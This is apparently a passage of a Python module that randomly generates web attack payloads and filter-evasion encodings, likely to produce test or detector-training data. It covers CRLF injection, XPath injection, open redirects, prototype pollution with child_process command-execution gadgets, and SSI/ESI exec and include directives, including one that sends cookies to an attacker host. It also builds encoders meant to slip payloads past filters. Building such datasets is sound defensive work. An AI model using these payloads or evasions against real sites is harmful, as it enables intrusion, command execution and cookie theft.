                     (1, "?§w§=§w§"), (1, "%20"), (1, "§w§.html"), (1, "/%2e%2e/"), (1, "#"), (1, "§w§=§w§"), (1, "/§w§/§w§")])
_def("crlf_header", [
    (8, "Set-Cookie: §cname§=§cval§"), (2, "Set-Cookie:§cname§=§cval§; Path=/; HttpOnly"), (2, "Set-Cookie: §cname§=§cval§; Domain=§host§"),
    (5, "Location: §crlf_url§"), (2, "Location:§crlf_url§"), (3, "Content-Length: 0"), "Content-Length:§nn§", "Content-Type: text/html",
    (2, "X-XSS-Protection: 0"), (2, "Access-Control-Allow-Origin: §crlf_url§"), "Access-Control-Allow-Credentials: true",
    "Refresh: 0; url=§crlf_url§", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-Host: §host§", "Host: §host§",
    "Content-Security-Policy: default-src *", "Transfer-Encoding: chunked", "Link: <§crlf_url§>; rel=preload; as=script",
    "X-Original-URL: /admin", "Content-Disposition: attachment; filename=§w§.exe", "Cache-Control: public, max-age=§N§",
    "§hname§: §w§", "Location: javascript:alert(§n§)", "X-Frame-Options: ALLOWALL", "Vary: §w§", "Connection: close",
    "Strict-Transport-Security: max-age=0", "X-Content-Type-Options: none", "Upgrade: websocket"])
_def("cname", ["session", "sessionid", "PHPSESSID", "JSESSIONID", "admin", "auth", "crlf", "§w§", "token", "isAdmin", "role",
               "csrftoken", "lang", "mycookie", "injected"])
_def("cval", ["§rand§", "1", "true", "injected", "§w§", "admin", "§md5§", "crlf-injection", "evil"])
_def("hname", ["X-Injected", "X-Test", "X-§W§", "Injected-Header", "X-CRLF", "Custom", "X-Debug", "X-Powered-By"])
_def("crlf_url", ["http://§evil§/", "https://§evil§", "//§evil§", "http://§ip§/", "https://§evil§/§w§", "§evil§"])
_def("crlf_html", ["<script>§js_plain§</script>", "<svg onload=§jfq§(§n§)>", "<html><body><h1>§W§</h1></body></html>",
                   "<img src=x onerror=§jfq§(§n§)>", "<script>§jfq§(document.domain)</script>", "<html>§W§</html>",
                   "<iframe src=//§evil§>", "<form action=//§evil§/login method=post><input name=password type=password></form>"])
_def("crlf_log", ["§logdate§ INFO [auth] User §user§ logged in successfully", "127.0.0.1 - - [§logdate§] \"GET /admin HTTP/1.1\" 200 §N§",
                  "§logdate§ [INFO] Password changed for user §user§", "[§logdate§] SUCCESS login admin from 127.0.0.1",
                  "§logdate§ WARN Payment §N§ approved", "User: admin Action: grant_role=superuser"])
_def("logdate", lambda rng: f"20{rng.randint(18, 26)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d} "
                            f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}")


def _crlf(rng: random.Random) -> str:
    nl = _CRLF_NEWLINES(rng)
    encoded = "%" in nl
    prefix = _s("crlf_prefix", rng)

    def header() -> str:
        text = _s("crlf_header", rng)
        r = rng.random()
        if r < 0.15:
            name, _, rest = text.partition(":")
            text = name.lower() + ":" + rest
        elif r < 0.2:
            name, _, rest = text.partition(":")
            text = name.upper() + ":" + rest
        if encoded and rng.random() < 0.4:
            text = text.replace(" ", "%20")
            if rng.random() < 0.3:
                text = text.replace(":", "%3a", 1)
        return text

    kind = rng.choices(range(5), weights=(14, 4, 3, 2, 1))[0]
    if kind == 0:
        return prefix + nl + nl.join(header() for _ in range(rng.choice((1, 1, 1, 2, 2, 3))))
    if kind == 1:
        html = _s("crlf_html", rng)
        return (prefix + nl + "Content-Length: 0" + nl + nl + "HTTP/1.1 200 OK" + nl + "Content-Type: text/html" + nl
                + f"Content-Length: {len(html)}" + nl + nl + html)
    if kind == 2:
        extra = (header() + nl) if rng.random() < 0.4 else ""
        return prefix + nl + extra + nl + _s("crlf_html", rng)
    if kind == 3:
        return prefix + nl + _s("crlf_log", rng)
    return (prefix + " HTTP/1.1" + nl + "Host: " + _s("trusted", rng) + nl + nl + "GET /" + rng.choice(("admin", "internal", _word(rng)))
            + " HTTP/1.1" + nl + "Host: " + rng.choice(("localhost", "127.0.0.1", _host(rng))) + nl + nl)


_def("crlf", _crlf)


# ---------------------------------------------------------------------------------------------
# XPath injection
# ---------------------------------------------------------------------------------------------

_def("xnode", ["user", "users", "account", "employee", "member", "customer", "item", "product", "book", "entry", "record",
               "node", "login", "credential", "person", "admin", "*"])
_def("xfield", ["username", "name", "login", "email", "id", "role", "user", "uid", "first-name", "accountno"])
_def("xpw", ["password", "pass", "pwd", "secret", "hash", "key", "token", "pin"])
_def("xcond", [
    (2, "count(/*)=§n§"), "count(/*[1]/*)>§n§", (2, "count(//§xnode§)=§n§"), "name(/*[1])='§xnode§'",
    (3, "substring(name(/*[1]),§n§,1)='§letter§'"), "string-length(name(/*[1]))=§n§", "starts-with(name(/*),'§letter§')",
    "starts-with(//§xnode§[§n§]/§xfield§,'§letter§')", (2, "contains(//§xnode§[§n§]/§xpw§,'§letter§')"),
    (3, "substring(//§xnode§[§n§]/§xpw§,§n§,1)='§letter§'"), "string-length(//§xnode§[§n§]/§xpw§)>§n§", "//§xnode§[position()=§n§]",
    "boolean(//*)", (2, "true()"), "not(false())", "position()=1", "last()>§n§", "name(/*[1]/*[§n§])='§xfield§'",
    "count(//§xnode§/child::node())>§n§", "number(//§xnode§[§n§]/§xfield§)>§n§",
    "translate(//§xnode§[§n§]/§xfield§,'abcdefghijklmnopqrstuvwxyz','ABCDEFGHIJKLMNOPQRSTUVWXYZ')='§W§'",
    "lower-case(name(/*[1]))='§xnode§'", "normalize-space(//§xnode§[1]/§xfield§)='§w§'", "doc-available(concat('http://§host§/',name(/*)))",
    "doc('http://§host§/§w§')", "codepoints-to-string(§byte§)='§letter§'", "string-to-codepoints(substring(name(/*),1,1))=§byte§",
    (2, "§n:a§=§n:a§"), "text()='§w§'", "local-name(/*)='§xnode§'", "namespace-uri(/*)=''", "count(//@*)>§n§",
    "//§xnode§[§xfield§='§user§']", "contains(name(/*[1]),'§letter§')", "count(/*/*[1]/*)=§n§", "//§xpw§[contains(.,'§letter§')]",
    "string-length(//§xnode§[§xfield§='§user§']/§xpw§)=§n§", "count(//§xnode§[§xfield§='§user§'])>0"])
_def("xsq", [(8, "'"), (3, "§w§'"), (2, "§user§'"), (1, "')"), (1, "']"), (1, "')]"), (1, "x' "), (1, "'§n§")])
_def("xdq", [(3, '"'), (1, '§w§"'), (1, '")'), (1, '"]')])
_def("xpathi", [
    (6, "§xsq§ or '§w:a§'='§w:a§"), (1, "§xsq§ or ''='"), (3, "§xsq§ or §xcond§ or '§w:a§'='§w:b§"), (2, "§xsq§ or §xcond§ or '"),
    (2, "§xsq§ and §xcond§ and '§n:a§'='§n:a§"), (2, "§xsq§ and §xcond§ or 'a'='b"), (2, "§xdq§ or \"§w:a§\"=\"§w:a§"),
    (1, "§xdq§ or §xcond§ or \"\"=\""), (2, "§n§ or §xcond§"), (2, "§n§ or §n:a§=§n:a§"), (1, "§n§ and §xcond§"),
    (2, "§xsq§] | //§xnode§/* | //§xnode§[§xsq§"), (1, "')] | //*[contains(.,'§w§')] | //x[('"), (0.5, "§xsq§ | /* | '"),
    (0.5, "'] | //* | //*['"), (1, "'] | //§xnode§[§xcond§] | a['"), (1, "\"] | //§xnode§/§xpw§ | a[\""),
    (2, "//§xnode§[§xfield§/text()='§user§' or '1'='1']/§xpw§"), (1, "//§xnode§[§xfield§='§user§' and §xpw§='' or ''='']"),
    (1, "/*[1]/*[§n§]/text()"), (0.2, "//*"), (0.2, "//text()"), (1, "//§xnode§[position()=§n§]/§xpw§"),
    (1, "//§xnode§/*[local-name()='§xpw§']"), (0.5, "count(//§xnode§)"), (0.2, "name(/*[1])"), (1, "string(//§xnode§[§n§]/§xpw§)"),
    (0.2, "/descendant-or-self::node()"), (0.3, "//§xnode§/ancestor::*"), (0.2, "/child::node()"), (0.2, "//comment()"), (0.2, "//@*"),
    (1, "§xsq§ or §xcond§%00"), (1, "§user§' or '1'='1' or 'a'='a"), (0.5, "§xsq§ or §n:a§=§n:a§]%00"), (1, "x' or name()='§xfield§' or 'x'='y"),
    (1, "§xsq§)] | //§xnode§[§xfield§='§user§'] | //x[('"), (1, "§xsq§ or string(//§xnode§[1]/§xpw§)!='' or '")])


# ---------------------------------------------------------------------------------------------
# Open redirect
# ---------------------------------------------------------------------------------------------

_def("red_host", [(8, "§evil§"), (2, "§host§"), (1, "§ipdec§"), (1, "google.com"), (1, "evil.com"), (1, "§ip§")])
_def("ipdec", lambda rng: _ip_form(rng, tuple(int(o) for o in _pub_ip(rng).split(".")), weird=1.0))
_def("red_path", [(8, ""), (2, "/"), (1, "/§w§"), (1, "/login"), (1, "/§w§.html"), (1, "?§w§=§w§"), (1, "/%2e%2e"), (1, "#§w§")])
_def("red_param", ["next", "url", "redirect", "redirect_uri", "return", "returnTo", "return_url", "continue", "dest",
                   "destination", "goto", "target", "r", "u", "redir", "callback", "forward", "to", "out", "view", "checkout_url"])
_def("red_core", [
    (10, "//§red_host§§red_path§"), (2, "///§red_host§"), (1, "////§red_host§/"), (4, "/\\§red_host§"), (2, "\\/§red_host§"),
    (1, "\\\\§red_host§"), (1, "/\\/§red_host§"), (3, "https:§red_host§"), (1, "http:§red_host§"), (2, "https:/§red_host§"),
    (1, "https:\\\\§red_host§"), (1, "https:/\\§red_host§"), (2, "//§red_host§/%2f.."), (2, "//§red_host§%2f%2e%2e"),
    (1, "//§red_host§/%2e%2e"), (2, "/%2f§red_host§"), (2, "%2f%2f§red_host§"), (2, "%5c%5c§red_host§"), (1, "/%5c§red_host§"),
    (2, "/%09/§red_host§"), (1, "//%09§red_host§"), (1, "/.§red_host§"), (8, "https://§red_host§§red_path§"), (4, "http://§red_host§/"),
    (3, "https://§trusted§.§red_host§"), (4, "https://§trusted§@§red_host§"), (2, "https://§trusted§%40§red_host§"),
    (1, "https://§red_host§#§trusted§"), (2, "https://§red_host§?§trusted§"), (2, "https://§red_host§/§trusted§"),
    (2, "https://§red_host§\\.§trusted§"), (2, "https://§red_host§%23.§trusted§"), (2, "//§red_host§%00.§trusted§"),
    (1, "https://§red_host§%09.§trusted§"), (2, "//§red_host§\\@§trusted§"), (1, "§trusted§@§red_host§"), (1, "//§trusted§@§red_host§"),
    (1, "§red_host§@§trusted§"), (1, "https://§red_host§%2f@§trusted§"), (1, "§trusted§%2e§red_host§"), (1, "https://§red_host§%3f.§trusted§"),
    (2, "javascript:alert(§n§)"), (1, "javascript://§trusted§/%0aalert(document.domain)"), (1, "javascript:%0aalert(§n§)"),
    (1, "java%0d%0ascript%0d%0a:alert(§n§)"), (1, "javascript://%250Aalert(§n§)"), (1, "javascript:window.location='//§red_host§'"),
    (1, "data:text/html;base64,§b64redir§"), (1, "\uff0f\uff0f§red_host§"), (1, "//§red_host§:§port§"), (1, "https://§red_host§:443@§trusted§"),
    (1, "//§red_host§/§trusted§/"), (1, "/%2e%2e//§red_host§"), (1, "/§w§/..//§red_host§"), (1, "/redirect?url=//§red_host§"),
    (1, "〱§red_host§"), (1, "https://§trusted§.§red_host§/§w§"), (1, "//§red_host§//"), (1, "///\\;@§red_host§"),
    (1, "https:///§red_host§"), (1, "%68%74%74%70%73%3a%2f%2f§red_host§"), (1, "https://§red_host§%E3%80%82§trusted§")])
_def("b64redir", lambda rng: _b64(f"<script>location='https://{_evil_domain(rng)}'</script>"))
_def("open-redirect", [(16, "§red_core§"), (1, "/§red_path_pfx§?§red_param§=§red_core§"), (1, "https://§trusted§/§red_path_pfx§?§red_param§=§red_core§"),
                       (1, "§red_param§=§red_core§"), (1, "/§red_path_pfx§?§red_param§=§red_core§&§w§=§n§")])
_def("red_path_pfx", ["login", "logout", "redirect", "auth/callback", "sso", "oauth/authorize", "out", "go", "account/signin", "r"])


# ---------------------------------------------------------------------------------------------
# Prototype pollution
# ---------------------------------------------------------------------------------------------

_PP_GADGETS = (
    ("isAdmin", "true"), ("admin", "true"), ("role", "admin"), ("polluted", "yes"), ("status", "510"), ("json spaces", "10"),
    ("exposedHeaders", "§w§"), ("innerHTML", "<img src=x onerror=alert(§n§)>"), ("srcdoc", "<script>alert(§n§)</script>"),
    ("src", "data:,alert(§n§)//"), ("transport_url", "data:,alert(§n§)//"), ("sourceURL", "\\u000aalert(§n§)//"),
    ("outputFunctionName", "x;process.mainModule.require('child_process').execSync('§cmdq§');x"),
    ("escapeFunction", "JSON.stringify; process.mainModule.require('child_process').exec('§cmdq§')"), ("client", "1"),
    ("shell", "node"), ("NODE_OPTIONS", "--require /proc/self/environ"), ("argv0", "console.log(require('child_process').execSync('§cmdq§').toString())//"),
    ("execArgv", "--eval=require('child_process').execSync('§cmdq§')"), ("allowedTags", "§w§"), ("hidden", "false"),
    ("disabled", "false"), ("debug", "true"), ("cache", "false"), ("href", "javascript:alert(§n§)"), ("onload", "alert(§n§)"),
    ("nonce", "§rand§"), ("template", "<img src onerror=alert(§n§)>"), ("toString", "§w§"), ("valueOf", "§n§"),
    ("__defineGetter__", "§w§"), ("line", "process.mainModule.require('child_process').execSync('§cmdq§')"),
    ("type", "Program"), ("body", "§w§"), ("headers", "§w§"), ("path", "/§unix_file§"), ("env", "§w§"),
    ("contentType", "text/html"), ("content-type", "application/json; charset=utf-7"), ("tabindex", "1"), ("x", "§w§"),
    ("§w§", "§w§"), ("canDelete", "true"), ("verified", "true"), ("permissions", "*"), ("preventDefault", "x"),
    ("jsonp", "alert(§n§)//"), ("url", "//§evil§/§w§.js"), ("baseURL", "https://§evil§"), ("proxy", "http://§evil§"))


def _pp(rng: random.Random) -> str:
    prop, val = rng.choice(_PP_GADGETS)
    prop, val = _fill(prop, rng), _fill(val, rng)
    kind = rng.choices(("query", "json", "hash"), weights=(11, 8, 2))[0]
    if kind in ("query", "hash"):
        obj = rng.choice(("a", "user", "config", "options", "settings", "data", "q", "filter", "x", _word(rng)))
        enc = rng.random() < 0.15
        path = rng.choices((
            f"__proto__[{prop}]", f"__proto__.{prop}", f"constructor[prototype][{prop}]", f"constructor.prototype.{prop}",
            f"{obj}[__proto__][{prop}]", f"{obj}.__proto__.{prop}", f"{obj}[constructor][prototype][{prop}]", f"__proto__[{prop}][]",
            f"__proto__[{prop}][{_word(rng)}]", f"[__proto__][{prop}]", f"__pro__proto__to__[{prop}]", f"__proto__[__proto__][{prop}]",
            f"{obj}[0][__proto__][{prop}]", f"constructor[prototype][{prop}][]"),
            weights=(14, 6, 6, 3, 4, 2, 2, 2, 2, 1, 1, 1, 1, 1))[0]
        if enc:
            path = path.replace("[", "%5B").replace("]", "%5D")
        out = f"{path}={val}"
        if rng.random() < 0.2:
            prop2, val2 = rng.choice(_PP_GADGETS)
            out += f"&__proto__[{_fill(prop2, rng)}]={_fill(val2, rng)}"
        return ("#" if kind == "hash" else rng.choice(("", "", "", "?"))) + out
    style = _JsonStyle(rng)
    leaf = {prop: (True if val == "true" else False if val == "false" else int(val) if val.isdigit() else val)}
    if rng.random() < 0.1:
        leaf = {prop: {_word(rng): leaf[prop]}}
    form = rng.choices(range(8), weights=(12, 6, 4, 3, 2, 2, 2, 1))[0]
    if form == 0:
        doc = {"__proto__": leaf}
    elif form == 1:
        doc = {"constructor": {"prototype": leaf}}
    elif form == 2:
        doc = {rng.choice(("user", "profile", "settings", "data", "config")): {"name": _word(rng), "__proto__": leaf}}
    elif form == 3:
        doc = {_word(rng): {"__proto__": leaf}}
    elif form == 4:
        doc = [{"__proto__": leaf}]
    elif form == 5:
        doc = {f"__proto__.{prop}": leaf[prop]}
    elif form == 6:
        return style.dump({"__proto__": leaf}).replace('"__proto__"', '"\\u005f\\u005fproto\\u005f\\u005f"', 1)
    else:
        doc = {"__proto__": {"__proto__": leaf}}
    return style.dump(doc)


_def("prototype-pollution", _pp)


# ---------------------------------------------------------------------------------------------
# Server-side (and edge-side) includes
# ---------------------------------------------------------------------------------------------

_def("ssi_var", ["DOCUMENT_NAME", "DOCUMENT_URI", "DATE_LOCAL", "DATE_GMT", "LAST_MODIFIED", "QUERY_STRING_UNESCAPED",
                 "REMOTE_ADDR", "REMOTE_HOST", "REMOTE_USER", "SERVER_NAME", "SERVER_SOFTWARE", "HTTP_USER_AGENT",
                 "HTTP_COOKIE", "HTTP_REFERER", "AUTH_TYPE", "PATH", "DOCUMENT_ROOT", "SCRIPT_FILENAME", "USER_NAME",
                 "HTTP_HOST", "SERVER_ADDR", "HTTP_AUTHORIZATION"])
_def("ssi_vpath", ["/§unix_file§", "/index.html", "/../../../§unix_file§", "/cgi-bin/§w§.cgi", "/§w§/§w§.shtml", "/WEB-INF/web.xml",
                   "/.htpasswd", "/var/www/html/§appfile§", "§app_file§", "/server-status", "/§w§.inc", "../../../../§unix_file§"])
_def("ssi_sp", [(4, " "), (2, ""), (1, "  ")])
_def("ssi_dir", [
    (10, "<!--#exec cmd=\"§cmdqq§\"§ssi_sp§-->"), (2, "<!--#exec cmd='§cmdq§'§ssi_sp§-->"), (3, "<!--#exec cgi=\"/cgi-bin/§w§.§cgiext§\"§ssi_sp§-->"),
    (5, "<!--#include virtual=\"§ssi_vpath§\"§ssi_sp§-->"), (4, "<!--#include file=\"§ssi_vpath§\"§ssi_sp§-->"),
    (5, "<!--#echo var=\"§ssi_var§\"§ssi_sp§-->"), (1, "<!--#printenv§ssi_sp§-->"), (1, "<!--#config errmsg=\"§W§ §w§\"§ssi_sp§-->"),
    (0.5, "<!--#config timefmt=\"§timefmt§\"§ssi_sp§-->"), (0.2, "<!--#config sizefmt=\"bytes\"§ssi_sp§-->"),
    (1, "<!--#fsize file=\"§ssi_vpath§\"§ssi_sp§-->"), (1, "<!--#flastmod virtual=\"§ssi_vpath§\"§ssi_sp§-->"),
    (2, "<!--#set var=\"§w:v§\" value=\"§w§\"§ssi_sp§--><!--#echo var=\"§w:v§\"§ssi_sp§-->"),
    (1, "<!--#if expr=\"$§ssi_var§ = /§w§/\"§ssi_sp§-->§w§<!--#else§ssi_sp§-->§w§<!--#endif§ssi_sp§-->"),
    (1, "<!--#echo encoding=\"none\" var=\"§ssi_var§\"§ssi_sp§-->"), (1, "<!--#exec cmd=\"§cmdqq§\" --><!--#echo var=\"DATE_LOCAL\" -->"),
    (1, "<!--#set var=\"§w:v§\" value=\"$§ssi_var§\" --><!--#echo var=\"§w:v§\" -->"), (1, "<!--# exec cmd=\"§cmdqq§\" -->"),
    (1, "<!--#exec cmd=\"§wcmd_simple§\"-->"), (1, "<!--#include virtual=\"/cgi-bin/§w§.pl?§w§=$QUERY_STRING\" -->")])
_def("cgiext", ["cgi", "pl", "sh", "py", "exe"])
_def("esi", [
    (4, "<esi:include src=\"§esi_url§\"/>"), (2, "<esi:include src=\"§esi_url§\" />"), (0.5, "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
    (1, "<esi:vars>$(HTTP_COOKIE{§cname§})</esi:vars>"), (0.3, "<esi:debug/>"), (1, "<esi:include src=\"§esi_url§\" alt=\"§esi_url§\" onerror=\"continue\"/>"),
    (1, "<!--esi <esi:include src=\"§esi_url§\"/> -->"), (1, "x<esi:include src=\"http://§host§/$(HTTP_COOKIE)\"/>"),
    (1, "<esi:assign name=\"§w§\" value=\"§w§\"/>"), (1, "<esi:include src=\"/§w§\" dca=\"xslt\" stylesheet=\"http://§host§/§w§.xsl\"/>"),
    (1, "<esi:include src=\"http://§lo_host§§int_path§\"/>"), (1, "<esi:vars>$(QUERY_STRING)</esi:vars>"),
    (1, "<esi:include src=\"http://§host§/?c=$(HTTP_COOKIE{'§cname§'})\"/>")])
_def("esi_url", ["http://§host§/", "http://§host§/§w§.html", "https://§evil§/§rand§", "/§w§", "http://§lo_host§/§w§", "//§host§/x"])
_def("ssi_pre", [(12, ""), (2, "\">"), (2, "§w§ "), (1, "<p>"), (1, "'>"), (1, "§W§"), (1, "-->"), (1, "§w§=§w§ "), (1, "§N§")])
_def("timefmt", ["%A %B %d %Y", "%s", "%D", "%Y-%m-%d %H:%M", "%c", "%T"])
_def("ssi", [(16, "§ssi_pre§§ssi_dir§"), (2, "§ssi_pre§§ssi_dir§§ssi_dir§"), (4, "§ssi_pre§§esi§")])


# ---------------------------------------------------------------------------------------------
# Evasions
# ---------------------------------------------------------------------------------------------

_UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


def _pct(ch: str, upper: bool) -> str:
    fmt = "%%%02X" if upper else "%%%02x"
    return "".join(fmt % b for b in ch.encode("utf-8"))


def _ev_url(value: str, rng: random.Random, mode: str | None = None) -> str:
    """Percent-encode the special characters, a random share, or all of them; sometimes twice, or IIS %u."""
    mode = mode or rng.choices(("special", "some", "all", "double", "iis"), weights=(10, 6, 2, 4, 1))[0]
    upper = rng.random() < 0.7
    if mode == "iis":
        return "".join(f"%u{ord(ch):04x}" if ch not in _UNRESERVED and ord(ch) < 0x10000 else ch for ch in value)
    if mode == "all":
        return "".join(_pct(ch, upper) for ch in value)
    if mode == "some":
        p = rng.uniform(0.2, 0.6)
        out = [_pct(ch, upper) if (ch not in _UNRESERVED or rng.random() < p * 0.5) and rng.random() < p + 0.3 else ch
               for ch in value]
        text = "".join(out)
        return text if text != value else _ev_url(value, rng, "special")
    text = "".join(ch if ch in _UNRESERVED else _pct(ch, upper) for ch in value)
    if mode == "double" and "%25" not in value:
        text = text.replace("%", "%25")
    return text


_NAMED = {"<": ("&lt;", "&lt"), ">": ("&gt;", "&gt"), '"': ("&quot;",), "'": ("&apos;",), "&": ("&amp;",),
          "(": ("&lpar;",), ")": ("&rpar;",), ":": ("&colon;",), "/": ("&sol;",), "\t": ("&Tab;",), "\n": ("&NewLine;",),
          "!": ("&excl;",), "=": ("&equals;",), ".": ("&period;",), ",": ("&comma;",), ";": ("&semi;",), "`": ("&grave;",),
          "\\": ("&bsol;",), "{": ("&lcub;",), "}": ("&rcub;",), "[": ("&lsqb;",), "]": ("&rsqb;",), "+": ("&plus;",),
          "*": ("&ast;",), "?": ("&quest;",), "#": ("&num;",), "$": ("&dollar;",), "%": ("&percnt;",), "|": ("&verbar;",)}


def _ev_html(value: str, rng: random.Random, mode: str | None = None) -> str:
    """HTML character references: decimal, hex, zero-padded, named, with and without the `;`."""
    mode = mode or rng.choices(("special", "some", "all"), weights=(8, 4, 1))[0]
    style = rng.choices(("dec", "hex", "pad", "named", "mixed"), weights=(4, 4, 1, 2, 2))[0]
    semicolon = rng.random() < 0.75
    p = rng.uniform(0.25, 0.7)
    out = []
    for i, ch in enumerate(value):
        special = not ch.isalnum() and ch != " "
        if mode == "all" or (mode == "special" and special) or (mode == "some" and rng.random() < p):
            s = rng.choice(("dec", "hex", "pad", "named")) if style == "mixed" else style
            nxt = value[i + 1] if i + 1 < len(value) else ""
            if s == "named" and ch in _NAMED:
                out.append(rng.choice(_NAMED[ch]) if nxt and not nxt.isalnum() else _NAMED[ch][0])
                continue
            if s == "hex" or (s == "named" and rng.random() < 0.5):
                ref = f"&#x{ord(ch):x}" if rng.random() < 0.7 else f"&#X{ord(ch):X}"
                safe_end = not nxt or nxt not in "0123456789abcdefABCDEF;"
            elif s == "pad":
                ref = f"&#{'0' * rng.randint(1, 5)}{ord(ch)}"
                safe_end = not nxt or not nxt.isdigit() and nxt != ";"
            else:
                ref = f"&#{ord(ch)}"
                safe_end = not nxt or not nxt.isdigit() and nxt != ";"
            out.append(ref if (not semicolon and safe_end) else ref + ";")
        else:
            out.append(ch)
    text = "".join(out)
    return text if text != value else _ev_html(value, rng, "all")


_ESCAPED = re.compile(r"\\(?:x[0-9a-fA-F]{2}|u\{[0-9a-fA-F]{1,6}\}|u[0-9a-fA-F]{4}|[0-7]{3})")


def _ev_backslash(value: str, rng: random.Random, style: str | None = None) -> str:
    """JavaScript/Python/JSON string escapes: \\xHH, \\u00HH, \\u{HH}, octal."""
    style = style or rng.choice(("x", "x", "u", "u", "ub", "oct"))
    protected = {i for m in _ESCAPED.finditer(value) for i in range(m.start(), m.end())}
    targets = [i for i, ch in enumerate(value) if not ch.isalnum() and ch not in " \\" and i not in protected]
    letters = [i for i, ch in enumerate(value) if ch.isalpha() and i not in protected]
    pool = targets if targets and rng.random() < 0.6 else letters or targets
    if not pool:
        return value
    chosen = set(rng.sample(pool, max(1, int(len(pool) * rng.uniform(0.2, 0.8)))))
    out = []
    for i, ch in enumerate(value):
        if i in chosen and ord(ch) < 0x100:
            code = ord(ch)
            out.append({"x": f"\\x{code:02x}", "u": f"\\u{code:04x}", "ub": f"\\u{{{code:x}}}", "oct": f"\\{code:03o}"}[style])
        else:
            out.append(ch)
    return "".join(out)


def _ev_fullwidth(value: str, rng: random.Random) -> str:
    """Fullwidth forms (U+FF01..U+FF5E) for some characters; NFKC folds them back."""
    mode = rng.choice(("special", "letters", "some"))
    p = rng.uniform(0.3, 1.0)
    out = []
    for ch in value:
        eligible = "!" <= ch <= "~" and ((mode == "special" and not ch.isalnum()) or (mode == "letters" and ch.isalpha()) or mode == "some")
        if eligible and rng.random() < p:
            out.append(chr(ord(ch) + 0xFEE0))
        elif ch == " " and mode != "letters" and rng.random() < p * 0.5:
            out.append("\u3000")
        else:
            out.append(ch)
    return "".join(out)


_SQL_KEYWORDS = re.compile(
    r"\b(select|union|all|distinct|from|where|and|or|not|xor|order|group|by|having|limit|offset|insert|into|values|"
    r"update|set|delete|drop|table|database|exec|execute|declare|waitfor|delay|sleep|benchmark|pg_sleep|case|when|then|"
    r"else|end|if|like|rlike|regexp|between|null|is|in|exists|concat|concat_ws|group_concat|char|chr|substring|substr|mid|"
    r"ascii|ord|length|version|user|database|schema|information_schema|load_file|outfile|dumpfile|extractvalue|updatexml|"
    r"cast|convert|as|int|varchar|hex|unhex|count|floor|rand|true|false|procedure|analyse|asc|desc|xp_cmdshell|dual|"
    r"sysdate|now|top|truncate|shutdown|create|grant|copy|program|identified|current_user|system_user)\b", re.I)
_SQL_COMMENT_KEYWORDS = ("union", "select", "from", "where", "and", "or", "order", "by", "sleep", "insert", "into",
                         "update", "concat", "group_concat", "all", "distinct", "having", "limit")


def _mix_case(word: str, rng: random.Random, style: str) -> str:
    if style == "upper":
        return word.upper()
    if style == "title":
        return word[:1].upper() + word[1:]
    if style == "alt":
        return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(word))
    mixed = "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in word)
    return mixed if mixed != word.lower() else word.upper()


def _ev_case_regex(pattern: re.Pattern, group: int = 0):
    def apply(value: str, rng: random.Random) -> str:
        style = rng.choice(("upper", "mixed", "mixed", "alt", "title"))

        def sub(match: re.Match) -> str:
            if group == 0:
                return _mix_case(match[0], rng, style)
            start, end = match.span(group)
            base = match.start()
            text = match[0]
            return text[: start - base] + _mix_case(match[group], rng, style) + text[end - base:]
        return pattern.sub(sub, value)
    return apply


_XSS_CASE = re.compile(r"</?([a-zA-Z][\w:-]*)|(?<=[\s/\"'])(on[a-z]+|src|href|style|autofocus|action|formaction|data|"
                       r"srcdoc|open|tabindex|type|xlink:href|poster|background|content|http-equiv)(?=\s*=|[\s>])|"
                       r"(javascript|vbscript|data)(?=:)", re.I)


def _ev_xss_case(value: str, rng: random.Random) -> str:
    style = rng.choice(("upper", "mixed", "mixed", "alt", "title"))

    def sub(match: re.Match) -> str:
        for g in (1, 2, 3):
            if match.group(g):
                s, e = match.span(g)
                b = match.start()
                return match[0][: s - b] + _mix_case(match[g], rng, style) + match[0][e - b:]
        return match[0]
    return _XSS_CASE.sub(sub, value)


_ev_sql_case = _ev_case_regex(_SQL_KEYWORDS)
_ev_win_case = _ev_case_regex(re.compile(r"\b(powershell|cmd|certutil|bitsadmin|whoami|ipconfig|systeminfo|tasklist|"
                                         r"net|type|dir|windows|system32|win\.ini|boot\.ini|inetpub|wwwroot|web\.config|"
                                         r"php|filter|resource|convert|base64-encode|file|http|https|iex|new-object|"
                                         r"downloadstring|invoke-webrequest|mshta|regsvr32|rundll32|wmic)\b", re.I))
_ev_url_case = _ev_case_regex(re.compile(r"^[a-z][a-z0-9+.-]*(?=:)|(?<=//)[^/?#\\@\s]+|\b(localhost|metadata|internal)\b", re.I))
_ev_hdr_case = _ev_case_regex(re.compile(r"\b(set-cookie|location|content-length|content-type|access-control-allow-origin|"
                                         r"refresh|host|x-forwarded-for|x-xss-protection|transfer-encoding|link)\b", re.I))
_ev_ldap_case = _ev_case_regex(re.compile(r"\b(objectclass|uid|cn|sn|mail|userpassword|memberof|samaccountname|"
                                          r"description|givenname|objectcategory|person|user|inetorgperson)\b", re.I))


def _outside_quotes(value: str):
    """Indexes of spaces outside '...' and \"...\" literals."""
    quote = None
    for i, ch in enumerate(value):
        if quote:
            if ch == quote:
                quote = None
        elif ch in "'\"":
            quote = ch
        elif ch == " ":
            yield i


def _replace_spaces(value: str, rng: random.Random, choices: tuple[str, ...], share: float | None = None,
                    quoted: bool = False) -> str:
    spaces = list(_outside_quotes(value)) if not quoted else [i for i, ch in enumerate(value) if ch == " "]
    if not spaces:
        return value
    share = share if share is not None else rng.choice((1.0, 1.0, 0.5, rng.random()))
    consistent = rng.random() < 0.7
    fixed = rng.choice(choices)
    out = list(value)
    for i in spaces:
        if rng.random() <= share:
            out[i] = fixed if consistent else rng.choice(choices)
    return "".join(out)


def _ev_sql_comment(value: str, rng: random.Random) -> str:
    mode = rng.randrange(3)
    if mode == 0:
        filler = rng.choice(("/**/", "/**/", "/*" + _letters(rng, 1, 6) + "*/", "/*!*/", "/**_**/"))
        return _replace_spaces(value, rng, (filler, "/**/", "/*%0a*/"))
    kws = [m for m in _SQL_KEYWORDS.finditer(value) if m[0].lower() in _SQL_COMMENT_KEYWORDS]
    if not kws:
        return _replace_spaces(value, rng, ("/**/",))
    version = rng.choice(("", "", "50000", "50001", "12345", "40100", "32302", "44444"))
    out, last = [], 0
    for m in kws:
        if rng.random() < 0.6:
